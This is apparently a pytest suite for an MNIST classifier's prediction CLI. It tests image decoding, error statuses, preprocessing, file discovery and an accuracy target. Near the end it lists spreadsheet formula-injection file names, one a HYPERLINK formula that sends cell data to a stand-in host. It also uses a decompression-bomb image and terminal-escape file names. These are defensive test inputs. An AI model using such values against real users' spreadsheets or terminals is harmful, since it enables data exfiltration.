"""predict.py on users' own pictures: formats, bad inputs, the MNIST-style preprocessing, exit codes, and
the target on photo-like and hand-drawn digits with the default CNN."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import numpy as np
import pytest
import torch
from conftest import assert_ok, quick_checkpoint, run_cli
from drawn_digits import render, write_drawn_digits
from PIL import Image, ImageDraw

from mnist_classifier.data import user_images
from mnist_classifier.data.mnist_style import BlankImageError, center_in_field, find_ink, mnist_style
from mnist_classifier.data.pictures import decode_gray
from mnist_classifier.data.user_images import find_inputs
from mnist_classifier.reports.predictions import Prediction, print_predictions, write_predictions
from mnist_classifier.runtime.metrics_file import read_metrics
from mnist_classifier.tasks import predict as predict_task


def read_rows(run_dir: Path) -> list[dict[str, str]]:
    with (run_dir / "predictions.csv").open() as file:
        return list(csv.DictReader(file))


@pytest.fixture(scope="module")
def checkpoint(synthetic_data_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return quick_checkpoint(tmp_path_factory.mktemp("ckpt") / "model.ckpt", synthetic_data_dir, "model=dense")


def seven(size: int = 120) -> Image.Image:
    return render(7, size=size)


def test_every_format_and_mode_is_read(checkpoint: Path, tmp_path: Path) -> None:
    pictures = tmp_path / "pictures"
    pictures.mkdir()
    gray = seven()
    gray.save(pictures / "gray.png")
    gray.convert("RGB").save(pictures / "rgb.jpg", quality=90)
    gray.save(pictures / "scan.bmp")
    gray.save(pictures / "scan.tiff")
    gray.save(pictures / "photo.webp")
    # an animated GIF: the first frame is the digit, the second is blank
    gray.convert("P").save(pictures / "anim.gif", save_all=True, append_images=[Image.new("P", gray.size, 0)])
    # RGBA: black ink on a transparent background, which must read as white paper
    rgba = Image.new("RGBA", (120, 120), (0, 0, 0, 0))
    ImageDraw.Draw(rgba).line([(30, 20), (90, 20), (55, 100)], fill=(0, 0, 0, 255), width=9)
    rgba.save(pictures / "transparent.png")
    (pictures / "notes.txt").write_text("not a picture: skipped in a folder")
    result = run_cli("predict.py", f"ckpt_path={checkpoint}", f"inputs={pictures}", f"hydra.run.dir={tmp_path / 'run'}")
    assert_ok(result)
    rows = read_rows(tmp_path / "run")
    assert sorted(Path(r["file"]).name for r in rows) == sorted(
        ["gray.png", "rgb.jpg", "scan.bmp", "scan.tiff", "photo.webp", "anim.gif", "transparent.png"]
    )
    assert all(r["status"] == "ok" and r["prediction"] != "" for r in rows)
    assert all(abs(sum(float(r[f"p{c}"]) for c in range(10)) - 1) < 1e-4 for r in rows)
    assert {"file", "prediction", "confidence", "status", "p0", "p9"} <= set(rows[0])
    assert len(json.loads((tmp_path / "run" / "predictions.json").read_text())) == 7
    assert Image.open(tmp_path / "run" / "preprocessed.png").size[0] > 200
    metrics = read_metrics(tmp_path / "run")
    assert metrics["status"] == "ok" and metrics["predicted"] == 7 and metrics["failed"] == 0
    assert "Predictions" in result.stdout and "Results" in result.stdout


def test_alpha_and_gif_frames_become_the_same_digit() -> None:
    """Transparent pixels are paper (white), not ink; a GIF is read at its first frame."""
    rgba = Image.new("RGBA", (60, 60), (0, 0, 0, 0))
    ImageDraw.Draw(rgba).rectangle((25, 10, 35, 50), fill=(0, 0, 0, 255))
    path = Path(__file__).parent / "__alpha_probe.png"
    try:
        rgba.save(path)
        gray = decode_gray(path, 10**6)
    finally:
        path.unlink(missing_ok=True)
    assert gray[0, 0] == pytest.approx(1.0) and gray[30, 30] == pytest.approx(0.0)


def test_bad_inputs_get_a_row_and_the_others_are_predicted(checkpoint: Path, tmp_path: Path) -> None:
    folder = tmp_path / "inputs"
    folder.mkdir()
    seven().save(folder / "good.png")
    (folder / "not_an_image.png").write_bytes(b"hello, I am text")
    (folder / "truncated.png").write_bytes((folder / "good.png").read_bytes()[:200])
    Image.new("L", (300, 200), 230).save(folder / "blank.png")
    Image.new("1", (10000, 10000), 1).save(folder / "bomb.png")  # 100 MP in 12 KB: over Pillow's warning limit too
    result = run_cli(
        "predict.py", f"ckpt_path={checkpoint}", f"inputs=[{folder},{tmp_path / 'missing.png'}]",
        "max_pixels=50000000", f"hydra.run.dir={tmp_path / 'run'}",
    )  # fmt: skip
    assert result.returncode == 1, result.stderr[-2000:]
    statuses = {Path(r["file"]).name: r["status"] for r in read_rows(tmp_path / "run")}
    assert statuses["good.png"] == "ok"
    assert statuses["not_an_image.png"] == "not an image (PNG, JPEG, BMP, GIF, TIFF or WebP)"
    assert statuses["truncated.png"].startswith("corrupt or truncated image")
    assert statuses["blank.png"] == "blank image: no ink found"
    assert statuses["bomb.png"] == "image too large: 10000x10000 pixels is over the limit of 50,000,000 (max_pixels)"
    assert statuses["missing.png"] == "missing file"
    assert read_metrics(tmp_path / "run")["status"] == "partial" and "Traceback" not in result.stderr
    assert "Warning" not in result.stderr, "the pixel limit is max_pixels: no DecompressionBombWarning"


def test_nothing_readable_is_one_paragraph_and_exit_2(checkpoint: Path, tmp_path: Path) -> None:
    result = run_cli("predict.py", f"ckpt_path={checkpoint}", f"inputs={tmp_path}/nothing-*.png",
                     f"hydra.run.dir={tmp_path / 'run'}")  # fmt: skip
    assert result.returncode == 2
    message = result.stderr.strip().splitlines()[-1]
    assert message.startswith("Error: None of the 1 input(s) could be read (no files match this pattern)")
    assert "Traceback" not in result.stderr and (tmp_path / "run" / "predictions.csv").is_file()


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        (["inputs=x.png"], "predict.py needs exactly one model"),
        (["ckpt_path=MODEL"], "predict.py needs inputs"),
        (["ckpt_path=MODEL", "inputs=x.png", "preprocess=fancy"], "preprocess must be one of mnist, none"),
        (["ckpt_path=MODEL", "inputs=x.png", "batch_size=0"], "batch_size must be a whole number >= 1"),
    ],
)
def test_bad_predict_values(overrides: list[str], message: str, checkpoint: Path, tmp_path: Path) -> None:
    overrides = [o.replace("MODEL", str(checkpoint)) for o in overrides]
    result = run_cli("predict.py", *overrides, f"hydra.run.dir={tmp_path}")
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("cores", "configured", "workers", "threads"),
    [(2, None, 2, 1), (16, None, 8, 8), (2, None, 0, None), (2, 2, 2, 2), (2, 1, 0, 1)],
)
def test_the_model_gets_the_cores_the_loader_workers_leave(
    cores: int, configured: int | None, workers: int, threads: int | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """num_threads=null with loader processes: the rest of this job's cores (torch's threads, set by the
    runner), at least one; none: torch's own; a number the user set always wins."""
    monkeypatch.setattr(torch, "get_num_threads", lambda: cores)
    assert predict_task.model_threads(configured, workers) == threads


def test_inputs_from_folders_globs_and_lists(tmp_path: Path) -> None:
    (tmp_path / "a" / "deep").mkdir(parents=True)
    for name in ("a/1.png", "a/deep/2.JPG", "a/skip.txt", "b.png"):
        (tmp_path / name).write_bytes(b"x")
    os.mkfifo(tmp_path / "pipe.png")
    found = find_inputs([str(tmp_path / "a"), str(tmp_path / "*.png"), str(tmp_path / "c.png"), "/dev/zero",
                         str(tmp_path / "pipe.png")])  # fmt: skip
    assert [(Path(f.path).name, f.status) for f in found] == [
        ("1.png", "ok"), ("2.JPG", "ok"), ("b.png", "ok"), ("c.png", "missing file"),
        ("zero", "not a regular file (a device, pipe or socket)"),
        ("pipe.png", "not a regular file (a device, pipe or socket)"),
    ]  # fmt: skip


def test_a_folder_is_walked_in_path_order_each_file_once(tmp_path: Path) -> None:
    """Sorted as paths (a/x.png before a-b/y.png, which a plain string sort inverts); links to a file (symbolic
    or hard) and into a folder (a loop) reach nothing twice: each file keeps its first path."""
    for name in ("in/a/x.png", "in/a-b/y.png", "in/z.png"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(name.encode())
    (tmp_path / "in" / "link.png").symlink_to(tmp_path / "in" / "z.png")
    os.link(tmp_path / "in" / "a" / "x.png", tmp_path / "in" / "hard.png")
    (tmp_path / "in" / "a" / "loop").symlink_to("..")
    found = find_inputs(str(tmp_path / "in"))
    assert [Path(f.path).relative_to(tmp_path / "in").as_posix() for f in found] == ["a/x.png", "a-b/y.png", "link.png"]


def digit_picture(ink_dark: bool, paper: float = 0.8) -> np.ndarray:
    image = np.asarray(render(3, size=150), np.float32) / 255  # dark ink (0.12) on light paper (0.92)
    image = paper * image / image.max()
    return image if ink_dark else 1.0 - image


def test_polarity_does_not_matter() -> None:
    dark_on_light, light_on_dark = mnist_style(digit_picture(True)), mnist_style(digit_picture(False))
    assert np.abs(dark_on_light - light_on_dark).max() < 0.05
    assert dark_on_light[0, 0] == 0 and dark_on_light.max() == pytest.approx(1.0)


def test_mnist_normalisation_20px_box_and_centre_of_mass() -> None:
    ink = np.zeros((200, 300), np.float32)
    ink[40:160, 200:240] = 1.0  # a tall bar, off-centre: 120 x 40
    field = center_in_field(ink)
    rows, cols = np.nonzero(field > 0.5)
    assert rows.max() - rows.min() + 1 in (19, 20, 21) and cols.max() - cols.min() + 1 in (6, 7, 8)
    total = field.sum()
    center = ((np.indices(field.shape)[0] * field).sum() / total, (np.indices(field.shape)[1] * field).sum() / total)
    assert abs(center[0] - 13.5) <= 0.75 and abs(center[1] - 13.5) <= 0.75


def ink_box(field: np.ndarray) -> tuple[int, ...]:
    rows, cols = np.nonzero(field > 0.3)
    return rows.min(), rows.max(), cols.min(), cols.max()


def test_shading_and_a_far_speck_do_not_move_the_digit() -> None:
    clean = mnist_style(digit_picture(True))
    shaded = digit_picture(True) * np.linspace(0.7, 1.1, 150)[None, :]
    speck = digit_picture(True)
    speck[5:8, 140:143] = 0.1  # a dot of dirt in the corner
    for picture in (shaded, speck):
        field = mnist_style(picture)
        assert np.abs(np.array(ink_box(field)) - np.array(ink_box(clean))).max() <= 1  # same place, same size
        best = max(  # the same strokes, give or take one pixel of resampling
            np.corrcoef(np.roll(field, (dy, dx), axis=(0, 1)).ravel(), clean.ravel())[0, 1]
            for dy in (-1, 0, 1)
            for dx in (-1, 0, 1)
        )
        assert best > 0.85


def test_blank_and_flat_pictures_are_refused() -> None:
    rng = np.random.default_rng(0)
    for picture in (np.full((50, 50), 0.9, np.float32), 0.8 + rng.normal(0, 0.01, (80, 80)).astype(np.float32)):
        with pytest.raises(BlankImageError):
            find_ink(picture)


def test_preprocess_none_takes_mnist_format_as_is(checkpoint: Path, tmp_path: Path) -> None:
    digit = (mnist_style(digit_picture(True)) * 255).astype(np.uint8)
    Image.fromarray(digit).save(tmp_path / "mnist.png")
    seven().save(tmp_path / "big.png")
    result = run_cli("predict.py", f"ckpt_path={checkpoint}", f"inputs={tmp_path}/*.png", "preprocess=none",
                     f"hydra.run.dir={tmp_path / 'run'}")  # fmt: skip
    assert result.returncode == 1
    statuses = {Path(r["file"]).name: r["status"] for r in read_rows(tmp_path / "run")}
    assert statuses["mnist.png"] == "ok"
    assert statuses["big.png"].startswith("image is 120x120, not 28x28: preprocess=none takes MNIST-formatted")


@pytest.mark.slow
@pytest.mark.real_data
@pytest.mark.xdist_group("default_cnn")
def test_default_cnn_reads_photo_like_and_hand_drawn_digits(
    default_cnn_checkpoint: Path, real_data_dir: Path, tmp_path: Path
) -> None:
    """The issue's target: >= 97% correct on pictures that are not MNIST-formatted."""
    from photo_digits import write_photo_digits
    from torchvision.datasets import MNIST

    test_set = MNIST(str(real_data_dir), train=False)
    pictures = write_photo_digits(test_set.data.numpy(), test_set.targets.numpy(), tmp_path / "pictures", 400)
    pictures += write_drawn_digits(tmp_path / "pictures" / "drawn")
    result = run_cli("predict.py", f"ckpt_path={default_cnn_checkpoint}", f"inputs={tmp_path / 'pictures'}",
                     f"hydra.run.dir={tmp_path / 'run'}")  # fmt: skip
    assert_ok(result)
    truth = {str(path): label for path, label in pictures}
    rows = read_rows(tmp_path / "run")
    assert len(rows) == len(truth) == 410
    correct = sum(int(r["prediction"]) == truth[r["file"]] for r in rows)
    drawn_correct = sum(int(r["prediction"]) == truth[r["file"]] for r in rows if "drawn_" in r["file"])
    assert correct / len(rows) >= 0.97, f"{correct} of {len(rows)} correct"
    assert drawn_correct >= 9, f"{drawn_correct} of 10 hand-drawn digits"


def test_glob_through_link_loops_finds_each_file_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "d" / "sub").mkdir(parents=True)
    for name in ("d/1.png", "d/sub/2.png", "d/sub/3.png"):
        (tmp_path / name).write_bytes(b"x")
    (tmp_path / "d" / "a").symlink_to(".")  # two loops: following links would never end
    (tmp_path / "d" / "sub" / "b").symlink_to("..")
    found = find_inputs([str(tmp_path / "d" / "**" / "*.png"), str(tmp_path / "d" / "*" / "*.png")])
    assert sorted(Path(f.path).name for f in found) == ["1.png", "2.png", "3.png"]
    assert all(f.status == "ok" for f in found)
    monkeypatch.setattr(user_images, "MAX_GLOB_FILES", 2)
    cut = find_inputs(str(tmp_path / "d" / "**" / "*.png"))
    assert [f.status for f in cut] == ["ok", "ok", "pattern stopped after 2 files: narrow it"]


def test_names_are_printed_escaped_and_csv_rows_are_whole(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    names = ["\x1b[31mred.png", "[bold red]markup.png", "new\nline.png"]
    rows = [Prediction(names[0], 3, 0.9, "ok", [0.1] * 10), *(Prediction(n, None, None, "blank") for n in names[1:])]
    print_predictions(rows)
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[31mred.png" in out
    assert "[bold red]markup.png" in out and "new\\nline.png" in out
    write_predictions(rows, tmp_path)
    with (tmp_path / "predictions.csv").open(newline="") as file:
        table = list(csv.reader(file))
    assert [len(row) for row in table] == [14] * 4 and [row[0] for row in table[1:]] == names


SPREADSHEET_FORMULAS = ['=HYPERLINK("http://x/?"&A1;"y").png', "+1.png", "-1+2.png", "@SUM(A1).png", "\t=1.png"]


@pytest.mark.parametrize("name", SPREADSHEET_FORMULAS)
def test_a_file_name_that_a_spreadsheet_would_run_is_written_to_the_csv_as_text(name: str, tmp_path: Path) -> None:
    """A picture found by inputs='*.png' keeps the name it came with: in predictions.csv it was a formula."""
    write_predictions([Prediction(name, 3, 0.9, "ok", [0.1] * 10), Prediction("/data/=1.png", 1, 0.9, "ok")], tmp_path)
    with (tmp_path / "predictions.csv").open(newline="") as file:
        files = [row["file"] for row in csv.DictReader(file)]
    assert files == ["'" + name, "/data/=1.png"]
    assert json.loads((tmp_path / "predictions.json").read_text())[0]["file"] == name
